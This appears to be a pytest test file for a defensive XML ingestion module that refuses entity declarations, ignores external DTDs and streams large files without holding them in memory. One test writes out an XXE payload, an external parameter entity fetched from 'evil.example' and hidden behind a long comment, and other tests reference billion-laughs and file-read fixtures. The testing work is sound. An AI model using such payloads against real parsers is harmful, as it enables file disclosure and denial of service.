"""xmlsafe: entity declarations refused anywhere in the prolog, DTDs never loaded, memory released while streaming."""

from __future__ import annotations

import codecs

import pytest

from pipelines.ingest import xmlsafe
from pipelines.ingest.records import RejectedFile
from tests.ingest.conftest import ADVERSARIAL


@pytest.mark.parametrize("name", ["xxe_file_read.xml", "billion_laughs.xml"])
def test_entity_declarations_are_refused_before_parsing(name):
    with pytest.raises(RejectedFile, match="declares entities"):
        xmlsafe.root_tag(ADVERSARIAL / name)


def test_entity_hidden_behind_a_long_comment_or_in_utf16_is_still_found(tmp_path):
    padded = tmp_path / "padded.xml"
    padded.write_text(
        '<?xml version="1.0"?>\n<!--'
        + "x" * 200_000
        + '-->\n<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n<r/>'
    )
    utf16 = tmp_path / "utf16.xml"
    utf16.write_bytes(
        codecs.BOM_UTF16_LE
        + '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode(
            "utf-16-le"
        )
    )
    for path in (padded, utf16):
        with pytest.raises(RejectedFile, match="declares entities"):
            xmlsafe.refuse_entity_declarations(path)


def test_external_dtd_reference_is_allowed_but_never_loaded(tmp_path):
    (tmp_path / "ADI.DTD").write_text('<!ENTITY injected "from the DTD">')
    doc = tmp_path / "adi.xml"
    doc.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE ADI SYSTEM "ADI.DTD">\n<ADI><Title>&injected;</Title></ADI>'
    )
    assert xmlsafe.root_tag(doc) == (None, "ADI")
    seen = [elem.text for _event, elem in xmlsafe.iterparse(doc) if xmlsafe.localname(elem) == "Title"]
    assert seen == [None]  # the reference stays unexpanded: the DTD beside the file was never read


def test_prolog_without_a_root_is_refused(tmp_path):
    doc = tmp_path / "endless.xml"
    doc.write_text("<!--" + "x" * (xmlsafe.PROLOG_LIMIT + 10))
    with pytest.raises(RejectedFile, match="no root element"):
        xmlsafe.prolog(doc)


def test_root_tag_reads_boms_and_encodings():
    assert xmlsafe.root_tag(ADVERSARIAL / "ern43_utf16.xml") == (
        "http://ddex.net/xml/ern/43",
        "NewReleaseMessage",
    )
    assert xmlsafe.root_tag(ADVERSARIAL / "ern43_utf8_bom.xml") == (
        "http://ddex.net/xml/ern/43",
        "NewReleaseMessage",
    )
    assert xmlsafe.root_tag(ADVERSARIAL / "adi11_latin1_doctype.xml") == (None, "ADI")


def test_release_memory_keeps_the_tree_flat_while_streaming(tmp_path):
    doc = tmp_path / "many.xml"
    doc.write_text(
        "<r><List>" + "".join(f"<Item><Name>n{i}</Name></Item>" for i in range(20_000)) + "</List></r>"
    )
    widest = 0
    for _event, elem in xmlsafe.iterparse(doc, tag="Item"):
        parent = elem.getparent()
        widest = max(widest, len(parent))
        xmlsafe.release_memory(elem)
    # the parser reads ahead by one buffer, so a few hundred items may be held; never the 20,000 of the file
    assert widest < 2_000 and len(parent) <= 1


def test_child_lookups_ignore_namespaces_and_comments():
    from lxml import etree

    elem = etree.fromstring('<a xmlns:x="urn:x"><!-- c --><x:B> one </x:B><B>two</B><C/></a>')
    assert xmlsafe.text(elem, "B") == "one"
    assert xmlsafe.texts(elem, "B") == ["one", "two"]
    assert xmlsafe.first_text(xmlsafe.child_index(elem)["B"]) == "one"
    assert sorted(xmlsafe.child_index(elem)) == ["B", "C"]
    assert xmlsafe.text(elem, "C") is None
